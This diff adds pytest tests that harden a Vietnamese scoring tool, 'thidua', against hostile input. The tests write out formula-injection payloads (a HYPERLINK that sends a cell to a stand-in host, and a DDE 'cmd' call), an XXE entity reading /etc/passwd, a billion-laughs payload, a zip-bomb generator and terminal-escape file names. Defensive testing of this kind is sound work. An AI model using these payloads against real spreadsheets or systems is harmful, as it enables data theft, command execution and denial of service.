@@ -21,6 +21,9 @@ import subprocess
 import sys
 import time
 import tracemalloc
+import warnings
+import zipfile
+import zlib
 from pathlib import Path
 from typing import Set
 
@@ -431,3 +434,290 @@ def test_a_templates_folder_symlinked_outside_the_bloc_is_not_read(bloc, tmp_pat
     assert refused(result)
     assert "'templates' là liên kết (symlink) trỏ ra ngoài thư mục" in result.output
     assert SECRET not in result.output
+
+
+# --- text that becomes code elsewhere (issue 17 point 3) ---------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://x.invalid/?d="&A1,"Bấm vào đây")', "=WEBSERVICE(\"http://x.invalid\")",
+            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def set_text(path: Path, old: str, new: str) -> None:
+    """Replace the YAML value `old` in `path` by the text `new`, quoted (JSON is YAML)."""
+    import json
+
+    text = path.read_text(encoding="utf-8")
+    assert old in text
+    path.write_text(text.replace(old, json.dumps(new, ensure_ascii=False), 1), encoding="utf-8")
+
+
+@pytest.mark.parametrize("value, cell", [
+    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("-0,5", "-0,5"), ("+3", "+3"), ("-12.25", "-12.25"), ("Công an tỉnh", "Công an tỉnh"),
+    ("a=b", "a=b"), ("", ""), (None, None), (7, 7)])
+def test_a_csv_cell_is_never_a_formula_and_a_number_stays_a_number(value, cell):
+    from thidua.rendering.table import csv_cell
+
+    assert csv_cell(value) == cell
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_rank_csv_writes_formula_like_names_as_text(bloc, formula):
+    import csv
+    import io
+
+    set_text(bloc / "data/2020/bloc.yaml", "TAND tỉnh", formula)
+
+    result = run("rank", "2020", "--format", "csv")
+
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8-sig"))))
+    assert ["'" + formula] == [cell for row in rows for cell in row if formula in cell]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_rank_xlsx_writes_formula_like_names_as_text(bloc, formula):
+    import openpyxl
+
+    set_text(bloc / "data/2020/bloc.yaml", "TAND tỉnh", formula)
+
+    result = run("rank", "2020", "--format", "xlsx", "-o", "xep-hang.xlsx")
+
+    assert result.exit_code == 0, result.output
+    cells = [c for row in openpyxl.load_workbook(bloc / "xep-hang.xlsx").active.iter_rows() for c in row]
+    label = [c for c in cells if c.value == formula]
+    assert len(label) == 1 and label[0].data_type == "s" and label[0].quotePrefix
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+
+
+def test_export_sheet_writes_formula_like_names_and_reasons_as_text_and_reads_them_back(bloc):
+    import openpyxl
+    import yaml
+
+    set_text(bloc / "data/2020/criteria.yaml", "Xây dựng kế hoạch, đăng ký thi đua, ký kết giao ước thi đua",
+             FORMULAS[1])
+    set_text(bloc / "data/2020/year/cong-an.yaml",
+             "Được Bộ Công an tặng Cờ thi đua (Quyết định số 1234/QĐ-BCA ngày 15/10/2020)", FORMULAS[0])
+
+    exported = run("export-sheet", "2020", "--unit", "cong-an", "-o", "bang-diem.xlsx")
+
+    assert exported.exit_code == 0, exported.output
+    ws = openpyxl.load_workbook(bloc / "bang-diem.xlsx")["Bảng điểm"]
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert {c.data_type for c in cells if c.value in FORMULAS[:2]} == {"s"}
+    assert {c.column_letter for c in cells if c.data_type == "f"} == {"D"}  # the sheet's own totals
+    imported = run("import-scores", "bang-diem.xlsx", "2020", "--unit", "cong-an", "--force")
+    assert imported.exit_code == 0, imported.output
+    report = yaml.safe_load((bloc / "data/2020/year/cong-an.yaml").read_text(encoding="utf-8"))
+    assert report["bonus"] == [{"points": 2, "reason": FORMULAS[0]}]
+
+
+TERMINAL = "t\x1b[2J\x9b31m\u202e\u200b"  # clear the screen, CSI, a right-to-left override, a zero-width space
+ESCAPED = "t\\x1b[2J\\x9b31m\\u202e\\u200b"
+
+
+@pytest.mark.parametrize("fmt", ["text", "github", "json"])
+def test_a_file_name_with_terminal_escapes_is_shown_escaped(bloc, fmt):
+    shutil.copy(bloc / "data/2020/year/tand.yaml", bloc / f"data/2020/year/{TERMINAL}.yaml")
+
+    result = run("validate", "2020", "--format", fmt)
+
+    assert result.exit_code == 1
+    assert not {"\x1b", "\x9b", "\u202e", "\u200b"} & set(result.output)
+    assert (ESCAPED if fmt != "json" else "t\\u001b[2J\\u009b31m\\u202e\\u200b") in result.output
+    if fmt == "text":
+        assert f"data/2020/year/{ESCAPED}.yaml:4:7: lỗi: Tệp {ESCAPED}.yaml ghi đơn vị 'tand'" in result.output
+
+
+def test_an_error_message_shows_a_file_name_escaped(bloc):
+    result = run("import-scores", f"{TERMINAL}.xlsx", "2020", "--unit", "bchqs", "--force")
+
+    assert refused(result)
+    assert result.output == f"Lỗi: Không có tệp '{ESCAPED}.xlsx'.\n"
+
+
+@pytest.mark.parametrize("old, new, where, named", [
+    ('- id: "1.1"', '- id: "1.1\u200b"', "data/2020/criteria.yaml:13:13", "\\u200b (ký tự không độ rộng U+200B)"),
+    ("- id: tand", '- id: "tand\u202e"', "data/2020/bloc.yaml:23:9",
+     "\\u202e (ký tự điều khiển chiều viết U+202E)")])
+def test_an_id_that_looks_like_another_names_its_invisible_character(bloc, old, new, where, named):
+    path = bloc / where.split(":")[0]
+    path.write_text(path.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")
+
+    result = run("validate", "2020")
+
+    assert result.exit_code == 1
+    shown = new.split('"')[1].encode("unicode_escape").decode("ascii")
+    assert (f"{where}: lỗi: Giá trị '{shown}' có {named}: trông như '{shown.split(chr(92))[0]}' nhưng là giá trị "
+            "khác. Xóa ký tự đó (gõ lại giá trị). [invisible-character]") in result.output
+
+
+# --- spreadsheets are untrusted input (issue 17 point 5) ---------------------------------------------
+
+MB = 1024 * 1024
+REMAKE = "Xuất bảng mới bằng 'thidua export-sheet', điền điểm vào đó rồi nhập lại."
+RESAVE = "Mở tệp bằng Excel và lưu lại, hoặc xuất bảng mới bằng 'thidua export-sheet', điền điểm vào đó rồi nhập lại."
+SHEET_XML = "xl/worksheets/sheet1.xml"
+D8 = '<c r="D8" s="8" t="n"><v>5</v></c>'  # tand's score of criterion 1.1, pre-filled by export-sheet
+LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">'
+          + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]>")
+
+
+@pytest.fixture
+def sheet(bloc):
+    """The members {name: bytes} of tand's scoring sheet for 2020, made by export-sheet (pre-filled)."""
+    assert run("export-sheet", "2020", "--unit", "tand", "-o", "bang-diem.xlsx").exit_code == 0
+    with zipfile.ZipFile(bloc / "bang-diem.xlsx") as archive:
+        members = {name: archive.read(name) for name in archive.namelist()}
+    assert D8.encode() in members[SHEET_XML]
+    return members
+
+
+def crafted(members, changes=None) -> Path:
+    """`members` zipped into h.xlsx, with `changes` {name: text or bytes}."""
+    path = Path("h.xlsx")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in {**members, **(changes or {})}.items():
+            archive.writestr(name, data)
+    return path
+
+
+def cell(members, xml: str) -> str:
+    """The sheet's XML with the cell D8 replaced by `xml`."""
+    return members[SHEET_XML].decode("utf-8").replace(D8, xml, 1)
+
+
+class _Repeat:
+    """A deflate 'compressor' that writes one precompressed block for each chunk it is given."""
+
+    def __init__(self, block: bytes):
+        self.block = block
+
+    def compress(self, data: bytes) -> bytes:
+        return self.block
+
+    def flush(self) -> bytes:
+        return b"\x03\x00"  # an empty final block
+
+
+def zip_bomb(members, megabytes: int = 400) -> Path:
+    """h.xlsx with shared strings of `megabytes` MB (about 1 KB a MB on disk), written in well under a
+    second: one MB compressed once and repeated; a full flush makes each copy stand alone."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    chunk = b"a" * MB
+    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
+    path = crafted(members)
+    info = zipfile.ZipInfo("xl/sharedStrings.xml")
+    info.compress_type = zipfile.ZIP_DEFLATED
+    with zipfile.ZipFile(path, "a") as archive, archive.open(info, "w", force_zip64=True) as member:
+        member._compressor = _Repeat(block)  # zipfile's own writer, only its compressor replaced
+        for _ in range(megabytes):
+            member.write(chunk)
+    return path
+
+
+def import_sheet(path: Path):
+    return run("import-scores", str(path), "2020", "--unit", "tand", "--force")
+
+
+HOSTILE_SHEETS = {
+    "broken-workbook-xml": (lambda m: crafted(m, {"xl/workbook.xml": m["xl/workbook.xml"][:300]}),
+                            "Tệp 'h.xlsx' bị hỏng: phần xl/workbook.xml có XML không hợp lệ (dòng 1, cột 122). "
+                            + RESAVE),
+    "broken-sheet-xml": (lambda m: crafted(m, {SHEET_XML: m[SHEET_XML][:5000]}),
+                         "Tệp 'h.xlsx' bị hỏng: phần xl/worksheets/sheet1.xml có XML không hợp lệ (dòng 1, cột 4999). "
+                         + RESAVE),
+    "invalid-character-reference": (
+        lambda m: crafted(m, {SHEET_XML: cell(m, '<c r="D8" t="inlineStr"><is><t>&#0;</t></is></c>')}),
+        "Tệp 'h.xlsx' bị hỏng: phần xl/worksheets/sheet1.xml có mã ký tự không được phép trong XML (&#...;) "
+        "(dòng 1, cột {col}). " + RESAVE),
+    "external-entity": (
+        lambda m: crafted(m, {SHEET_XML: '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM '
+                          '"file:///etc/passwd">]>' + cell(m, '<c r="D8" t="inlineStr"><is><t>&e;</t></is></c>')}),
+        "Tệp 'h.xlsx' có khai báo DOCTYPE hay thực thể XML (phần xl/worksheets/sheet1.xml); tệp Excel thật không bao "
+        "giờ có, nên thidua không đọc tệp này (có thể là tệp được tạo để tấn công máy). " + REMAKE),
+    "billion-laughs-workbook": (
+        lambda m: crafted(m, {"xl/workbook.xml": LAUGHS + m["xl/workbook.xml"].decode().replace(
+            'name="Bảng điểm"', 'name="&l9;"')}),
+        "Tệp 'h.xlsx' có khai báo DOCTYPE hay thực thể XML (phần xl/workbook.xml); tệp Excel thật không bao giờ có, "
+        "nên thidua không đọc tệp này (có thể là tệp được tạo để tấn công máy). " + REMAKE),
+    "million-digits": (
+        lambda m: crafted(m, {SHEET_XML: cell(m, f'<c r="D8" s="8"><v>{"9" * 10 ** 6}</v></c>')}),
+        "Tệp 'h.xlsx', ô Bảng điểm!D8: ô số có giá trị '99999999999999999999… (1.000.000 ký tự)' không phải một số "
+        "đọc được. Ghi lại ô bằng một số (ví dụ 8,5) rồi lưu tệp."),
+    "nan": (lambda m: crafted(m, {SHEET_XML: cell(m, '<c r="D8" s="8" t="n"><v>NaN</v></c>')}),
+            "Tệp 'h.xlsx', ô Bảng điểm!D8: ô số có giá trị 'NaN' không phải một số đọc được. Ghi lại ô bằng một số "
+            "(ví dụ 8,5) rồi lưu tệp."),
+    "old-xls": (lambda m: Path("h.xlsx").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4088)) and Path("h.xlsx"),
+                "Tệp 'h.xlsx' là tệp Excel cũ (.xls, Excel 97-2003) hoặc tệp Excel có đặt mật khẩu; thidua chỉ đọc tệp "
+                ".xlsx. Mở tệp bằng Excel, bỏ mật khẩu nếu có, rồi lưu lại dạng \"Excel Workbook (*.xlsx)\"."),
+    "renamed-csv": (lambda m: Path("h.xlsx").write_text("unit,score\ntand,9\n") and Path("h.xlsx"),
+                    "Tệp 'h.xlsx' không phải tệp Excel .xlsx (có thể là tệp .csv hay tệp văn bản được đổi tên). "
+                    + REMAKE),
+    "renamed-docx": (lambda m: crafted({"[Content_Types].xml": m["[Content_Types].xml"], "word/document.xml": "<w/>"}),
+                     "Tệp 'h.xlsx' là tệp Word (.docx) chứ không phải tệp Excel .xlsx. " + REMAKE),
+    "truncated-archive": (lambda m: Path("h.xlsx").write_bytes(Path(crafted(m)).read_bytes()[:3000]) and Path("h.xlsx"),
+                          "Tệp 'h.xlsx' bị hỏng, thidua không đọc được. " + RESAVE),
+}
+
+
+@pytest.mark.parametrize("case", HOSTILE_SHEETS)
+def test_a_hostile_spreadsheet_is_refused_with_one_vietnamese_message(bloc, sheet, case):
+    build, message = HOSTILE_SHEETS[case]
+    path = build(sheet)
+    report = (bloc / "data/2020/year/tand.yaml").read_bytes()
+    if "{col}" in message:
+        message = message.format(col=path.read_bytes() and zipfile.ZipFile(path).read(SHEET_XML).index(b"&#0;") + 1)
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")  # no library warning either
+        result = import_sheet(path)
+
+    assert refused(result)
+    assert result.output == f"Lỗi: {message}\n"
+    assert (bloc / "data/2020/year/tand.yaml").read_bytes() == report
+
+
+def test_a_zip_bomb_is_refused_from_its_directory_quickly_in_little_memory(bloc, sheet):
+    path = zip_bomb(sheet)
+    assert path.stat().st_size < 600_000
+    tracemalloc.start()
+    started = time.perf_counter()
+    try:
+        result = import_sheet(path)
+        elapsed = time.perf_counter() - started
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+
+    assert refused(result)
+    assert result.output == ("Lỗi: Tệp 'h.xlsx' khi giải nén lớn 400,0 MB (10 phần), vượt giới hạn 20,0 MB của một bảng "
+                             "điểm (có thể là một \"bom nén\"); thidua không đọc tệp này. " + REMAKE + "\n")
+    assert elapsed < 2
+    assert peak < 12 * MB
+
+
+def test_a_text_cell_of_a_million_digits_is_a_located_cell_problem(bloc, sheet):
+    path = crafted(sheet, {SHEET_XML: cell(sheet, f'<c r="D8" t="inlineStr"><is><t>{"9" * 10 ** 6}'
+                                                                 "</t></is></c>")})
+    started = time.perf_counter()
+
+    result = import_sheet(path)
+
+    assert time.perf_counter() - started < 5
+    assert result.exit_code == 1
+    assert result.output.splitlines()[0] == ("h.xlsx: Bảng điểm!D8: lỗi: Điểm tự chấm của tiêu chí 1.1 phải là một số "
+                                             "(ví dụ 8,5), nhưng ô có '999999999999999999999999999…'. "
+                                             "[cell-not-a-number]")
+
+
+def test_a_cell_on_a_far_row_is_refused_without_reading_a_million_rows(bloc, sheet):
+    far = '<row r="1048576"><c r="F1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
+    path = crafted(sheet, {SHEET_XML: sheet[SHEET_XML].decode().replace("</sheetData>", far, 1)})
+
+    result = import_sheet(path)
+
+    assert refused(result)
+    assert result.output == ("Lỗi: Bảng 'Bảng điểm' trong tệp 'h.xlsx' có tới 1.048.576 dòng; bảng điểm do 'thidua "
+                             "export-sheet' tạo chỉ có vài chục dòng. Xóa các dòng thừa ở cuối bảng, hoặc xuất bảng "
+                             "mới, điền điểm vào đó rồi nhập lại.\n")
